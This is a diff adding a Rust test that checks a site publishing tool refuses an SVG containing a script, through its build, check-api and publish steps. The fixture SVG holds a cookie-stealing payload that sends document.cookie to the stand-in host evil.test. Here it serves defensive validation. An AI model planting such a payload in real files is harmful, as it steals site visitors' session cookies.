@@ -549,3 +549,46 @@ proptest::proptest! {
         }
     }
 }
+
+/// Not in the issue: an SVG "photo" with a script is harmless in `<img>`, but
+/// opened at its own address it runs as the agency's site (its cookies, its
+/// portal). The content, the export and check-api all refuse it.
+#[test]
+fn an_svg_that_would_run_as_the_site_is_refused() {
+    let root = Temp::new("publish-svg");
+    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60"><script>fetch("https://evil.test/?"+document.cookie)</script></svg>"#;
+    let content = content(&root.0);
+    std::fs::write(content.join("img/news/chart.svg"), svg).unwrap();
+    let errors: Vec<String> = build(&content, &root.0.join("out"))
+        .expect_err("refused")
+        .iter()
+        .map(ToString::to_string)
+        .collect();
+    assert_eq!(
+        errors,
+        ["img/news/chart.svg: holds a `<script>`: opened at its own address, it would run as the site; remove it"]
+    );
+
+    let cms = Temp::new("publish-svg-cms");
+    let site = cms_site(&cms.0);
+    std::fs::write(site.join("api/img/news/chart.svg"), svg).unwrap();
+    edit(&site.join("api/en/news/plain.json"), |value| {
+        value["photo"] = serde_json::json!({ "src": "../../img/news/chart.svg", "alt": "A chart" });
+    });
+    let report = check(&site.join("api"), &CheckOptions::default()).unwrap();
+    assert!(
+        report.findings.iter().any(|f| f.severity == Severity::Error
+            && f.file == "en/news/plain.json"
+            && f.message.starts_with("img/news/chart.svg holds a `<script>`")),
+        "{:#?}",
+        report.findings
+    );
+    // Referenced or not, it is published: the publish refuses it either way.
+    edit(&site.join("api/en/news/plain.json"), |value| {
+        value.as_object_mut().unwrap().remove("photo");
+    });
+    let before = snapshot(&site);
+    let why = stopped(publish(&options(&site, None, &cms.0)));
+    assert!(why.contains("photo(s) cannot be published"), "{why}");
+    assert_eq!(snapshot(&site), before);
+}
